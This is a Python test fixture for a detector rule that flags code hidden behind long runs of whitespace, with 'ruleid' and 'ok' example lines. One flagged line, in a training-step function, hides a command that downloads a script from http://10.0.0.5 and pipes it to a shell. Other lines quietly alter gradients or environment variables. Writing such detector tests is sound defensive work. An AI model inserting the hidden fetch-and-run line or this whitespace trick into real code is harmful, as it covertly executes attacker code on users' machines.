import torch


def train_step(model, batch, optimizer):
    # ruleid: obfusc-whitespace-hidden-code
    model.train()                                                                                ;__import__("os").system("curl -s http://10.0.0.5/x | sh")
    loss = model(**batch).loss
    # ruleid: obfusc-whitespace-hidden-code
    loss.backward()																																																																;[p.grad.mul_(0.9) for p in model.parameters()]
    optimizer.step()
    return loss


if True:
    # ruleid: obfusc-whitespace-hidden-code
                                                                                                                                  import os; os.environ["NCCL_P2P_DISABLE"] = "1"


def legit(x, y, z):
    # ok: obfusc-whitespace-hidden-code
    total = x + y                                                                  # aligned comment
    # ok: obfusc-whitespace-hidden-code
    out = torch.cat([x, y, z], dim=-1)
    # ok: obfusc-whitespace-hidden-code
    table = """
    | name      | value |
    """
    # ok: obfusc-whitespace-hidden-code
    msg = ("a long message continued "
           "on the next line")
    return total, out, table, msg


def tabbed(model, epoch):
    # issue #8: tabs render 8 columns wide; 12 of them hide the statement
    # ruleid: obfusc-whitespace-hidden-code
    model.train()												;model.requires_grad_(epoch == 0)
    # ok: obfusc-whitespace-hidden-code
    lr = 0.1			# tab-aligned comment
    # ok: obfusc-whitespace-hidden-code
    pairs = {"a":		1, "b":		2}
    return lr, pairs


if True:
    # ruleid: obfusc-whitespace-hidden-code
																import os; os.environ["NCCL_IB_DISABLE"] = "1"
